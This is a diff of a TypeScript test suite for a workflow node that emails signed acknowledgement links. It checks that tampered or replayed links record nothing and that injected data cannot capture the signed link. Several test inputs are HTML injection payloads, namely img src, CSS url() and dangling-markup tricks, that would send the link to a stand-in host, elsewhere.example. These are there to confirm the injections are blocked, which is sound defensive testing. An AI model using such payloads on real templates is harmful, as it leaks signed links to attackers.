@@ -14,13 +14,13 @@ const pass = (minutes: number) => notifying.pass(minutes * 60_000);
 const links = () => linksIn(String(notifying.world.tables.email.mails.all().at(-1)?.html));
 
 /** What a request to the page brings. */
-const open = async (method: string, link: URL, { stored }: Partial<Pass> = {}) =>
+const open = async (method: string, link: URL, { stored }: Pass) =>
 	await receive(
 		new Notify(),
 		{ operation: 'notify' },
 		{
 			...{ method, query: Object.fromEntries(link.searchParams) },
-			contextData: stored?.executionData?.contextData as IDataObject,
+			contextData: stored.executionData?.contextData as IDataObject,
 		},
 		{},
 		{ name: 'Tested' },
@@ -34,13 +34,11 @@ describe('an acknowledgement', () => {
 		const [link, ...others] = links();
 		expect(others).toEqual([]);
 		expect(link.pathname).toMatch(/\/acknowledge$/);
-		const shown = await open('GET', link);
+		const shown = await open('GET', link, first);
 		expect(shown.result.workflowData).toBeUndefined();
 		expect(shown.sent).toContain('Nothing is recorded until you press the button');
-		expect(shown.sent).toContain('Acknowledge the alert');
-		const named = await open('GET', link, first);
-		expect(named.sent).toMatch(/<h1>1<\/h1>.*Sent on March 15, 2026 at \d\d:00/s);
-		const { result } = await open('POST', link);
+		expect(shown.sent).toMatch(/<h1>1<\/h1>.*Sent on March 15, 2026 at \d\d:00/s);
+		const { result } = await open('POST', link, first);
 		expect(result.webhookResponse).toContain('Your answer was recorded');
 		const { passed } = await resume(first, byEmail, { answer: result.workflowData as never });
 		expect(passed[0].output).toBe('Acknowledged');
@@ -51,19 +49,56 @@ describe('an acknowledgement', () => {
 		expect(sent()).toEqual(['1']);
 	});
 
-	it('of another notification ends nothing', async () => {
+	/** The link of the first step, changed. */
+	const changed: Array<[string, Record<string, string | undefined>]> = [
+		['of another notification', { notification: 'f'.repeat(32) }],
+		['without a notification', { notification: undefined }],
+		['with the notification as a list', { 'notification[]': 'f', notification: undefined }],
+		['of a step that the form does not have', { step: '99' }],
+		['of a step that was not sent yet', { step: '2' }],
+		['without a step', { step: undefined }],
+		['with another spelling of the step', { step: '1.0' }],
+	];
+
+	it.each(changed)('%s ends nothing, and shows no alert', async (_what, query) => {
 		const first = await notify(byEmail);
 		const [link] = links();
-		link.searchParams.set('notification', 'f'.repeat(32));
-		const { result } = await open('POST', link);
-		const { until } = await resume(first, byEmail, { answer: result.workflowData as never });
-		expect(until).toBe(first.until);
+		for (const [name, value] of Object.entries(query)) {
+			if (value === undefined) link.searchParams.delete(name);
+			else link.searchParams.set(name, value);
+		}
+		for (const method of ['GET', 'POST']) {
+			const { result, sent: page } = await open(method, link, first);
+			expect(result.workflowData).toBeUndefined();
+			expect(page).toContain('already answered');
+		}
+	});
+
+	it('of a step has an ID that says nothing of another step’s', async () => {
+		const steps = { values: [stepOf('email', '1', { waitMinutes: 0 }), stepOf('email', '2')] };
+		const first = await notify({ steps });
+		const [one, two] = notifying.world.tables.email.mails
+			.all()
+			.map(({ html }) => linksIn(String(html))[0]);
+		expect(one.searchParams.get('notification')).not.toBe(two.searchParams.get('notification'));
+		one.searchParams.set('step', '2');
+		expect((await open('POST', one, first)).result.workflowData).toBeUndefined();
+		const { result } = await open('POST', two, first);
+		const { passed } = await resume(first, { steps }, { answer: result.workflowData as never });
+		expect(passed[0].json.escalation.acknowledgedBy).toBe('Link in step 2');
+	});
+
+	it('that comes after another ends nothing more', async () => {
+		const first = await notify(byEmail);
+		const [link] = links();
+		await open('POST', link, first);
+		expect((await open('POST', link, first)).result.workflowData).toBeUndefined();
 	});
 
 	it('of one of several items ends that one alone', async () => {
 		const own = { ...byEmail, sendOnceKey: '={{ $json.key }}' };
 		const first = await notify(own, [{ key: 'a' }, { key: 'b' }]);
-		const { result } = await open('POST', links()[0]);
+		const { result } = await open('POST', links()[0], first);
 		const { states } = await resume(first, own, { answer: result.workflowData as never });
 		expect(states.map(({ status }) => status).sort()).toEqual(['acknowledged', 'waiting']);
 	});
@@ -92,6 +127,98 @@ describe('the link', () => {
 		expect(links()).toHaveLength(1);
 		const [{ variables }] = notifying.world.tables.chat.messages.all();
 		expect(String(variables?.name)).toMatch(/^See http.+signature=.+&notification=\w{32}&step=2$/);
+	});
+});
+
+describe('a link is only where the form puts it', () => {
+	const mails = () => notifying.world.tables.email.mails.all();
+	const html = () => String(mails().at(-1)?.html);
+	const send = async (template: string, json: IDataObject, more: IDataObject = {}) =>
+		await notify(
+			{ steps: { values: [stepOf('email', '1', { html: template, ...more } as never)] } },
+			[json],
+		);
+	const hostile = '<img src="https://elsewhere.example/?t=[acknowledge link]">';
+
+	it.each([
+		['={{ $json.text }}', { text: hostile }],
+		['=Hello {{ $json.text }}', { text: hostile }],
+		['=<p>{{ $json.text }}</p>{{ $json.more }}', { text: hostile, more: 1 }],
+		['={{ $json.a }}link]', { a: '[acknowledge ' }],
+		['=[acknowledge {{ $json.a }}', { a: 'link]' }],
+	])('in %s, data gets none', async (template, json) => {
+		await send(template, json);
+		const [button, ...others] = linksIn(html()).filter(({ host }) => host !== 'elsewhere.example');
+		expect(others).toEqual([]);
+		expect(button.pathname).toMatch(/\/acknowledge$/);
+		expect(html()).toContain('(acknowledge link)');
+		expect(html()).not.toMatch(/elsewhere[^"]*signature/);
+	});
+
+	it.each([
+		['<a href="[acknowledge link]">Mine</a>', {}],
+		['=<a href="[acknowledge link]">Mine</a>', {}],
+		['=<a href="[acknowledge link]">{{ $json.text }}</a>', { text: hostile }],
+		['={{ $json.text }} <b>at [acknowledge link]</b>', { text: 'x < y & z > 1, it’s "so"' }],
+		[
+			'=<!--[if mso]><v:roundrect href="[acknowledge link]"/><![endif]-->{{ $json.text }}',
+			{ text: 1 },
+		],
+		["=<a title='it's' href=[acknowledge link]>Mine</a>{{ $json.text }}", { text: hostile }],
+	])('in %s, the form’s own is one', async (template, json) => {
+		await send(template, json);
+		expect(html().match(/signature=/g)).toHaveLength(1);
+		expect(html()).not.toContain('[acknowledge link]');
+	});
+
+	it.each([
+		["=<p>{{ $json.text }}</p> It's [acknowledge link]", "<img src='https://elsewhere.example/?t="],
+		['={{ $json.text }}[acknowledge link]', '<img src=https://elsewhere.example/?t='],
+		['={{ $json.text }} [acknowledge link]', '<style>*{background:url(https://elsewhere.example/?'],
+		['={{ $json.text }}', '<img src="https://elsewhere.example/?t='],
+		['={{ $json.text }}', '<textarea>'],
+		['=<img src="https://elsewhere.example/?t=[acknowledge link]">', ''],
+	])('in %s after %s, it would be sent away, so nothing is sent', async (template, text) => {
+		const refused = send(template, { text });
+		await expect(refused).rejects.toThrow('Step 1: The link would be within a tag');
+		expect(mails()).toEqual([]);
+	});
+
+	it('in the code of an expression, it is refused, because its value may be data', async () => {
+		const refused = send("={{ 'See [acknowledge link] ' + $json.text }}", { text: 'x' });
+		await expect(refused).rejects.toThrow(/within \{\{ \}\}/);
+	});
+
+	it('in variables as JSON and as fields, data gets none', async () => {
+		const variablesJson = '={"name": "See [acknowledge link]", "why": "{{ $json.text }}"}';
+		const text = 'at [acknowledge link]';
+		const step = stepOf('chat', '1', { specifyVariables: 'json', variablesJson, waitMinutes: 0 });
+		const pairs = [
+			{ name: 'name', value: '={{ $json.text }}' },
+			{ name: 'link', value: '[acknowledge link]' },
+		];
+		const fields = stepOf('chat', '2', { variables: { pairs } });
+		await notify({ steps: { values: [step, fields] } }, [{ text }]);
+		const [json, other] = notifying.world.tables.chat.messages.all();
+		expect(json.variables).toMatchObject({
+			name: expect.stringMatching(/^See http.+signature=/),
+			why: 'at (acknowledge link)',
+		});
+		expect(other.variables).toMatchObject({
+			name: 'at (acknowledge link)',
+			link: expect.stringMatching(/^http.+signature=/),
+		});
+	});
+
+	it('in steps that one expression returns, there is none', async () => {
+		const values = [
+			stepOf('chat', '1', {
+				variables: { pairs: [{ name: 'name', value: '[acknowledge link]' }] },
+			}),
+		];
+		await notify({ steps: '={{ $json.steps }}' as never }, [{ steps: { values } } as never]);
+		const [{ variables }] = notifying.world.tables.chat.messages.all();
+		expect(variables).toMatchObject({ name: '(acknowledge link)' });
 	});
 });
 
